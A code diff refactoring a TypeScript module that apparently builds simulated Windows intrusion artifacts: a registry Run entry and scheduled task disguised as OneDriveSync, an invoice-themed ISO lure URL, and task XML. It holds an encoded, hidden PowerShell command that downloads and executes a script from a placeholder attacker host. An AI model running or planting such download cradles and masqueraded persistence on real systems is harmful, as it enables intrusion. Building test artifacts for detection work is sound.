@@ -14,12 +14,15 @@ export const HKCU_RUN = { name: 'OneDriveSync', data: `"${ROAMING_COPY}" /backgr
 export const TASK = { name: 'OneDriveSyncTask', guid: '{6F2B9C1A-7D43-4E55-9A0E-3B61C58F0D27}', author: 'WIN-PC\\updsvc' }
 
 const POWERSHELL_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a.ps1')`
-export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${Buffer.from(POWERSHELL_SCRIPT, 'utf16le').toString('base64')}`
+const ENCODED = Buffer.from(POWERSHELL_SCRIPT, 'utf16le').toString('base64')
+export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${ENCODED}`
 
 export const DOWNLOAD_URL = 'https://files.secure-invoices.example/d/8841/Invoice_8841.iso'
 
 /** The task as Windows keeps it: UTF-16 with a byte order mark. @param start ISO 8601, local time */
-export function taskXml(task: { uri: string, author: string, command: string, arguments: string, start: string, user: string, hidden: boolean }): Uint8Array {
+export function taskXml(
+  task: { uri: string, author: string, command: string, arguments: string, start: string, user: string, hidden: boolean }
+): Uint8Array {
   const xml = `<?xml version="1.0" encoding="UTF-16"?>
 <Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
   <RegistrationInfo>
